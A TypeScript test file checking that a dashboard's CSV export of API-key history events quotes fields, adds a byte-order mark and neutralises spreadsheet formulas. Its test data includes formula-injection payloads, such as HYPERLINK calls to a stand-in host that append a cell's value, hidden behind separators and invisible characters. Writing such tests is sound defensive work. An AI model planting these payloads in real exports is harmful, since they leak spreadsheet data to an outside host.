import t from 'tap'
import { toCsv } from '../../dashboard/history/csv.js'

const event = {
  id: '00000000-0000-4000-8000-000000000123',
  at: '2026-11-23T09:30:00.000Z',
  action: 'revoke',
  key_id: '00000000-0000-4000-8000-000000000001',
  name: 'SIEM',
  actor: 'operator',
  reason: null,
  details: null,
  request_id: 'req_1',
  ip: null,
  service: null,
  acting_for: null,
} as const

t.test('the CSV has one quoted line per event', async t => {
  const text = toCsv([{ ...event, reason: 'found by "us",\nin a paste', details: { leak: { door: 'owner' } } }])
  t.equal(
    text,
    '\uFEFFtime,action,key_id,key_name,actor,reason,details,ip,request_id\r\n' +
      `"${event.at}","revoke","${event.key_id}","SIEM","operator","found by ""us"",\nin a paste",` +
      '"{""leak"":{""door"":""owner""}}","","req_1"\r\n',
  )
})

t.test('the CSV is UTF-8 with a byte-order mark, which Excel needs', async t => {
  const bytes = Buffer.from(toCsv([{ ...event, name: 'Zürich – 東京' }]))
  t.same([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
  t.ok(bytes.toString().includes('"Zürich – 東京"'))
})

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']

t.test('no cell is a formula in a spreadsheet', async t => {
  for (const start of [...STARTS, '\t', '\r', '\n'])
    t.match(toCsv([{ ...event, name: `${start}HYPERLINK("https://x.example")` }]), `,"'${start}HYPERLINK`)
})

/** The cells of a text in a spreadsheet that uses another separator and therefore ignores our quotes. */
const cellsOf = (text: string, separator: string) =>
  text
    .split(/\r\n|[\r\n]/)
    .flatMap(line =>
      line.split(separator).map(cell => cell.replace(/^[\s"'“”„«»\p{Cf}]*/u, start => start.replace(/[^']/g, ''))),
    )

t.test('no part of a cell is a formula where semicolons, tabs or line breaks separate cells', async t => {
  for (const separator of [';', '\t', '；', '|', ','])
    for (const before of ['', ' ', '"', '\u200b', '"\u00a0“', '\n', '\r\n', '\t', separator])
      for (const start of STARTS) {
        const note = `found on a paste site${separator}${before}${start}HYPERLINK("https://x.example?"&A1)`
        for (const column of [{ reason: note }, { name: note }, { details: { leak: { door: 'report', note } } }]) {
          const text = toCsv([{ ...event, ...column }])
          const bad = cellsOf(text.replace('\uFEFF', ''), separator).filter(cell =>
            STARTS.some(one => cell.startsWith(one)),
          )
          t.same(bad, [], JSON.stringify(note))
        }
      }
})

t.test('other texts are unchanged', async t => {
  for (const reason of ['rotation: 2026-Q2', 'a, b; c', 'x-y=z', '1 + 1', 'mail@example.com', '{"a":-1}'])
    t.ok(toCsv([{ ...event, reason }]).includes(`"${reason.replaceAll('"', '""')}"`), reason)
})
